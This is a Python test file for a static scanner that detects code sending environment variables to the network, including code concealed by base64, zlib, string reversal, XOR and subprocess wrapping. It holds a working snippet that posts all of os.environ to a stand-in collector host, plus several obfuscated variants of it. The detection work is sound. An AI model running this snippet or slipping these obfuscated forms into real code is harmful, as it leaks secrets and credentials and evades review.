"""What code does that is run and cannot be read where it stands is said to be hidden."""

import base64
import zlib

import pytest
from tests.static.reading import package

from biopsy.static.concealed import concealed

THEFT = """import json, os, urllib.request
urllib.request.urlopen("https://collector.example/e", json.dumps(dict(os.environ)).encode())
"""
HIDDEN = "data.payload flow env:* > network"


def numbers(text: str, key: int = 0) -> str:
    return str([ord(c) ^ key for c in text])


@pytest.mark.parametrize(
    "source",
    [
        f"import base64\ndef f():\n    exec(base64.b64decode({base64.b64encode(THEFT.encode())!r}))\n",
        f"def f():\n    exec({THEFT[::-1]!r}[::-1])\n",
        f"def f():\n    exec(''.join(chr(n ^ 90) for n in {numbers(THEFT, 90)}))\n",
        f"import zlib\ndef f():\n    exec(zlib.decompress({zlib.compress(THEFT.encode())!r}))\n",
        f"import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', {THEFT[::-1]!r}[::-1]])\n",
        f"import base64\ndef f():\n    exec('exec(bytes.fromhex(\"' + base64.b64decode({base64.b64encode(THEFT.encode().hex().encode())!r}).decode() + '\"))')\n",
    ],
    ids=["base64", "reversed", "numbers", "zlib", "another interpreter", "inside what is read"],
)
def test_a_flow_inside_code_that_cannot_be_read_is_told_twice(source: str) -> None:
    found = package({"pkg/__init__.py": source})
    assert any(f.startswith("code.flow env:* > network @ pkg/__init__.py") for f in found)
    assert any(f.startswith(HIDDEN) for f in found)


@pytest.mark.parametrize(
    "files",
    [
        {"pkg/__init__.py": f"def f():\n    exec({THEFT!r})\n"},
        {
            "pkg/__init__.py": f"import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', {THEFT!r}])\n"
        },
        {
            "pkg/__init__.py": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'a.txt')).read())\n",
            "pkg/a.txt": THEFT,
        },
        {"pkg/__init__.py": THEFT},
    ],
    ids=["literal", "another interpreter", "a file as it is", "not evaluated"],
)
def test_what_can_be_read_is_not_hidden(files: dict[str, str]) -> None:
    found = package(files)
    assert any("env:* > network" in f for f in found)
    assert not any(f.startswith(HIDDEN) for f in found)


def test_a_template_and_its_words_are_open() -> None:
    shown = "exec(TEMPLATE.format(name=name)); class_namespace typename field_names property repr"
    assert not concealed("class {typename}: field_names property typename repr class_namespace", [shown])
    assert concealed("import socket, subprocess, shutil; connect(); sendall(); urlopen()", [shown])


def test_of_few_words_nothing_is_said() -> None:
    assert not concealed("alpha beta gamma", [""])
    assert not concealed(b"\xff\xfe" * 50, [""])
